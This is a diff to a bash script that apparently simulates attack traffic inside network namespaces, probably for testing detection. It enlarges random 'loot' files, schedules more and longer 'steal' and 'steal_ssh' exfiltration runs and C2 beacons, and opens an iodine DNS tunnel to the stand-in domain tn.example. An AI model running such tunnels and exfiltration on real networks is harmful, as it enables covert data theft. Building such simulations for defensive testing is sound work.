@@ -48,9 +48,9 @@ wget_size() {       # HOST URL ...: a small download
     lim 30 "$host" curl -s -o /dev/null --max-time 25 "$@"
 }
 
-some_file() {       # MEDIAN-KB: a file of random size in $FILE
+some_file() {       # KB: a file of random size about that in $FILE
     FILE=$TMP/loot.$BASHPID
-    head -c $(((RANDOM % 100 + 20) * $1 * 15 + RANDOM)) /dev/urandom >"$FILE"
+    head -c $(((RANDOM % 100 + 50) * $1 * 10 + RANDOM)) /dev/urandom >"$FILE"
 }
 
 guesses() {
@@ -85,6 +85,8 @@ use_tunnel() {
 
 tunnel_ip() {       # HOST RESOLVER SECONDS: iodine
     local host=$1 pid
+    # what is sent when the tunnel is down again stays at home
+    ip -n "$PREFIX$host" route replace unreachable 10.99.0.0/24 metric 9999
     lim $(($3 + 15)) "$host" iodine -f -r -P secret "$2" tn.example &
     pid=$!
     wait_for "iodine on $host" \
@@ -225,14 +227,18 @@ attacks() {
             $((SECONDS_ALL * 5 / 100 + 3))
     done
 
-    at 8 exfil b-exf steal 60
-    at 20 exfil b-exf steal 25 --limit-rate 60k
-    at 31 exfil b-exf steal_ssh 40
-    at 44 exfil b-exf steal 50 --http1.1
-    at 57 exfil b-exf steal 30 --limit-rate 150k
-    at 65 exfil b-exf steal_ssh 20
-    at 77 exfil b-exf steal 45 --http2
-    at 88 exfil b-exf steal 35
+    at 8 exfil b-exf steal 1500
+    at 20 exfil b-exf steal 700 --limit-rate 60k
+    at 31 exfil b-exf steal_ssh 900
+    at 44 exfil b-exf steal 1100 --http1.1
+    at 57 exfil b-exf steal 800 --limit-rate 150k
+    at 65 exfil b-exf steal_ssh 500
+    at 77 exfil b-exf steal 1200 --http2
+    at 14 exfil b-exf steal 300
+    at 38 exfil b-exf steal 450
+    at 51 exfil b-exf steal_ssh 350
+    at 71 exfil b-exf steal 250 --http1.1
+    at 88 exfil b-exf steal 600
 
     at 2 beacon b-c2 beacon b-c2 c2 8 12
     at 3 beacon b-c2b beacon b-c2b c2b 15 4 --http1.1
